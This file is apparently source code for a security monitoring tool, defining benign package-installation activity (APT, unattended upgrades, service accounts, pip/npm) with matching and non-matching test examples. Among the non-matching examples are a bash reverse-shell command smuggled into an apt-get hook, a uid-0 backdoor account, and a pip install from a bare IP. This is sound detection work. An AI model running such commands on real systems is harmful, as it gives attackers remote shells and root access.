import type { BenignPattern } from "../benign.ts";
import { ordinaryActivity } from "./activity.ts";
import { connecting, executing, inContainer, onHost, writing } from "./examples.ts";
import { systemTrees } from "./places.ts";
import { callsOf, connectsTo, readsOf, writesOf } from "./trust.ts";

/** What goes with the installation of packages. */

export const packageUpdatePatterns: readonly BenignPattern[] = [
  ordinaryActivity({
    id: "apt-downloads",
    activity: "APT fetches package lists and packages from its repositories",
    distinguishing: [
      "APT downloads through its own methods below /usr/lib/apt/methods, as the user _apt, on ports 80, 443 and 53.",
      "The address belongs to a mirror in /etc/apt/sources.list or sources.list.d, or to your proxy.",
      "A repository added shortly before, or a method that is a script, speaks against it.",
    ],
    explains: ["*"],
    programs: ["apt", "apt-get", "http", "https", "mirror", "apt-check", "apt-cacher-ng"],
    executables: [
      "/usr/lib/apt/methods/http",
      "/usr/lib/apt/methods/https",
      "/usr/lib/apt/methods/mirror",
      "/usr/lib/apt/apt-helper",
    ],
    where: "host",
    startedBy: ["apt", "apt-get", "aptitude", "unattended-upgr", "packagekitd", "apt.systemd.dai", "update-manager"],
    does: (facts) => connectsTo(facts, [53, 80, 443, 3142, 8080]),
    and: "it asks a web or name server, as that method does",
    examples: {
      proven: [
        onHost("http", "/usr/lib/apt/methods/http", "apt-get", {
          ...connecting("192.0.2.10:51000->203.0.113.80:80"),
          "user.name": "_apt",
          "user.uid": 42,
        }),
      ],
      named: [
        onHost("apt-get", "/usr/bin/apt-get", "apt.systemd.dai", connecting("192.0.2.10:51000->203.0.113.80:443")),
      ],
      ignored: [
        onHost("http", "/tmp/http", "apt-get", connecting("192.0.2.10:51000->203.0.113.80:80")),
        onHost("http", "/usr/lib/apt/methods/http", "apt-get", connecting("192.0.2.10:51000->203.0.113.80:4444")),
        onHost("apt-get", "/usr/bin/apt-get", "bash", {
          ...connecting("192.0.2.10:51000->203.0.113.80:80"),
          "proc.cmdline": "apt-get update -o APT::Update::Pre-Invoke::=bash -i >& /dev/tcp/203.0.113.80/80 0>&1",
        }),
      ],
    },
  }),

  ordinaryActivity({
    id: "unattended-upgrades",
    activity: "The distribution installs its security updates by itself",
    distinguishing: [
      "The timer apt-daily-upgrade or dnf-automatic started it, and its log in /var/log/unattended-upgrades has this minute.",
      "The packages that changed come from the distribution's own security repository.",
      "As it is a script, its process name proves nothing: compare with the log.",
    ],
    explains: ["reads-shadow-file", "reads-authentication-configuration"],
    programs: ["unattended-upgr", "unattended-upgrade", "apt.systemd.dai", "apt.systemd.daily", "dnf-automatic"],
    executables: [],
    isScript: true,
    where: "host",
    startedBy: ["systemd", "anacron", "cron"],
    does: (facts) =>
      readsOf(facts, ...systemTrees) ??
      writesOf(facts, ...systemTrees, "/var/log/unattended-upgrades/", "/var/run/unattended-upgrades.lock") ??
      callsOf(facts, "execve", "clone", "setuid"),
    and: "",
    examples: {
      proven: [],
      named: [
        onHost("unattended-upgr", "/usr/bin/python3.12", "apt.systemd.dai", {
          ...writing("/var/log/unattended-upgrades/unattended-upgrades.log"),
          "proc.cmdline": "unattended-upgr /usr/bin/unattended-upgrade",
        }),
      ],
      ignored: [
        onHost("unattended-upgr", "/home/mira/unattended-upgr", "bash", writing("/etc/cron.d/x")),
        onHost("unattended-upgr", "/usr/bin/python3.12", "apache2", writing("/etc/cron.d/x")),
      ],
    },
  }),

  ordinaryActivity({
    id: "package-creates-service-account",
    activity: "Installing a package creates the account of its service",
    distinguishing: [
      "Such an account is a system account (`--system`, uid below 1000), has no login shell and no password.",
      "The postinst of the package, dpkg or rpm stand above it, and the log of the package manager names that package.",
      "Uid 0, a login shell, a group such as sudo, wheel or docker, or a person's name speak against it.",
    ],
    explains: ["*"],
    programs: ["useradd", "adduser", "groupadd", "addgroup", "usermod", "groupmod", "systemd-sysuser"],
    executables: ["/usr/sbin/useradd", "/usr/sbin/groupadd", "/usr/bin/systemd-sysusers"],
    isScript: true,
    parentExecutables: ["/usr/bin/dpkg", "/usr/bin/rpm", "/usr/bin/dnf5", "/usr/lib/systemd/systemd"],
    startedBy: [],
    byPerson: true,
    does: (facts) =>
      isServiceAccountCommand(facts.process.command.text) ? callsOf(facts, "execve", "clone", "vfork") : null,
    and: "it makes a system account without rights",
    examples: {
      proven: [
        onHost("useradd", "/usr/sbin/useradd", "rpm", {
          ...executing("useradd --system --no-create-home --shell /sbin/nologin chrony"),
          "proc.pexepath": "/usr/bin/rpm",
        }),
      ],
      named: [
        onHost(
          "groupadd",
          "/usr/sbin/groupadd",
          "postgresql-common.postinst",
          executing("groupadd -g 115 --system postgres"),
        ),
      ],
      ignored: [
        onHost("useradd", "/usr/sbin/useradd", "dpkg", executing("useradd --system -o -u 0 backup2")),
        onHost("useradd", "/usr/sbin/useradd", "dpkg", executing("useradd --system -G sudo -s /bin/bash helper")),
        onHost("useradd", "/tmp/useradd", "dpkg", executing("useradd --system chrony")),
      ],
    },
  }),

  ordinaryActivity({
    id: "language-package-manager",
    activity: "pip, npm or another package manager of a programming language installs libraries",
    distinguishing: [
      "It belongs into a build: a running production container has no reason to install libraries.",
      "The names of the packages are those of the project's lock file, and the address is the registry or your mirror of it.",
      "Install scripts run whatever they like: a shell, curl or a strange address below it is not part of an ordinary installation.",
    ],
    explains: [
      "package-manager-in-container",
      "new-executable-in-container",
      "interpreter-on-network",
      "connects-outside",
    ],
    programs: [
      "pip",
      "pip3",
      "npm",
      "npx",
      "yarn",
      "pnpm",
      "gem",
      "bundle",
      "composer",
      "cargo",
      "go",
      "poetry",
      "uv",
      "mvn",
      "gradle",
    ],
    executables: [],
    isScript: true,
    startedBy: [],
    does: (facts) =>
      facts.process.terminal === true
        ? null
        : (writesOf(
            facts,
            "/usr/local/lib/",
            "/usr/lib/",
            "/opt/",
            "/app/",
            "/srv/",
            "/go/pkg/",
            "/root/.cache/",
            "/root/.npm/",
            "/workspace/",
            "/builds/",
            "/usr/src/",
          ) ?? connectsTo(facts, [443])),
    and: "",
    examples: {
      proven: [],
      named: [
        inContainer("npm", "/usr/local/bin/node", "sh", {
          ...writing("/app/node_modules/left-pad/index.js"),
          "proc.cmdline": "npm ci --omit=dev",
        }),
        inContainer("pip", "/usr/bin/python3.12", "buildkit-runc", {
          ...connecting("172.17.0.3:40002->203.0.113.7:443"),
          "proc.cmdline": "pip install -r requirements.txt",
        }),
      ],
      ignored: [
        inContainer("npm", "/usr/local/bin/node", "sh", {
          ...connecting("172.17.0.3:40002->203.0.113.7:4444"),
          "proc.cmdline": "npm ci",
        }),
        inContainer("pip", "/usr/bin/python3.12", "bash", {
          ...writing("/usr/lib/x.py"),
          "proc.cmdline": "pip install http://203.0.113.7/x.tgz",
        }),
        inContainer("npm", "/dev/shm/npm", "sh", writing("/app/node_modules/x/y.js")),
      ],
    },
  }),
];

/** Words of useradd and groupadd for an account that can do nothing by itself. */
function isServiceAccountCommand(command: string): boolean {
  const words = command.slice(0, 2_000).split(/\s+/);
  if (words.some((word) => ["-o", "--non-unique", "-G", "--groups", "-aG", "-p", "--password"].includes(word)))
    return false;
  if (
    words.some(
      (word) =>
        /^(?:sudo|wheel|docker|root|admin|lxd|shadow)$/.test(word) || (word.endsWith("sh") && word.startsWith("/")),
    )
  )
    return false;
  if (words.some((word, at) => (word === "-u" || word === "--uid") && words[at + 1] === "0")) return false;
  return words[0]?.endsWith("sysusers") === true || words.some((word) => ["-r", "--system", "-M"].includes(word));
}
